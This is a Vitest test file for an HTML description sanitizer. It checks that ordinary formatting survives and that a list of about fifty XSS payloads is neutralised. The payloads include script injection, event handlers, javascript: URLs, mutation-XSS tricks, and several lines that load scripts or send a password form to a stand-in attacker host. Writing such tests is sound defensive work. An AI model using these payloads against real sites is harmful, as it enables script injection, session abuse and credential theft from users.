import { describe, expect, test } from 'vitest';
import { cleanDescription } from './check-draft.ts';

describe('the cleaned description keeps what people write', () => {
  test.each([
    '<h3>Pattern</h3><p>Read <strong>all</strong> <em>rules</em>, H<sub>2</sub>O, m<sup>2</sup>.</p>',
    '<ul><li><p>One</p><ol><li>a</li></ol></li></ul><blockquote><p>Said</p></blockquote>',
    '<table><tbody><tr><th>Section</th><td>Marks</td></tr></tbody></table>',
    '<p><a href="https://example.com/a?b=1&amp;c=2">Syllabus</a>, <a href="mailto:help@example.com">help</a></p>',
    '<p>5 &lt; 6 &amp; «हिन्दी» తెలుగు</p>',
    'Plain text, two < three',
  ])('%s', (markup) => {
    const clean = cleanDescription(markup);
    expect(clean).toBe(markup.replace('two < three', 'two &lt; three'));
    expect(cleanDescription(clean)).toBe(clean);
  });

  test('in the tags that screens know: other headings, b, i and del are replaced by them', () => {
    expect(cleanDescription('<h1>A</h1><h6>B</h6><b>c</b><i>d</i><del>e</del>')).toBe(
      '<h3>A</h3><h4>B</h4><strong>c</strong><em>d</em><s>e</s>',
    );
  });

  test('without what a word processor adds to it', () => {
    const pasted =
      '<!--StartFragment--><p class="MsoNormal" style="margin:0cm;mso-fareast-language:EN"><span lang="EN-IN" style="color:red">Bring a pen<o:p></o:p></span></p><style>p{color:red}</style>';
    expect(cleanDescription(pasted)).toBe('<p>Bring a pen</p>');
  });

  test('but becomes empty when there is nothing to see', () => {
    for (const empty of ['', '  ', '<p></p>', '<p><br></p><p>&nbsp;</p>', '<ul><li></li></ul>'])
      expect(cleanDescription(empty)).toBe('');
    expect(cleanDescription('<ul><li>a</li></ul><p></p>')).toBe('<ul><li>a</li></ul>');
  });
});

/** Known ways to make markup run something, one for each family. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/api/v1/auth/signout">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed;inset:0" target="_blank">x</a>',
  '<a href="https://ok.example/&quot;onmouseover=&quot;alert(1)">x</a>',
  '<p onclick=alert(1) style="background:url(javascript:alert(1))" id=content class=frame>x</p>',
  '<p/onmouseover=alert(1)>x',
  '<div style="width:expression(alert(1))">x</div>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=password><button>Sign in</button></form>',
  '<body onload=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<title><img src=x onerror=alert(1)></title>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<<img src=x onerror=alert(1)>>',
  '<img src=x onerror=alert(1)//',
  '<p>unfinished <a href="https://ok.example',
  '<table background="javascript:alert(1)"><tr><td colspan=9999 background=x>x</td></tr></table>',
];

/** Matches whatever a browser could take for a tag in the cleaned text, including its attributes. */
const anyTag = /<[^>]*>?/g;
const harmless =
  /^<(?:\/?(?:p|strong|em|u|s|sub|sup|ul|ol|li|blockquote|h3|h4|code|pre|table|thead|tbody|tr|th|td)|br \/|\/a|a href="(?:https?:\/\/|mailto:|tel:)[^"<>]*")>$/;

describe('the cleaned description loses whatever could run, load or restyle anything', () => {
  test.each(attacks)('%s', (attack) => {
    for (const sent of [attack, `<p>before</p>${attack}<p>after</p>`, `<table>${attack}`]) {
      const clean = cleanDescription(sent);
      expect((clean.match(anyTag) ?? []).filter((tag) => !harmless.test(tag))).toEqual([]);
      expect(cleanDescription(clean)).toBe(clean);
    }
  });
});
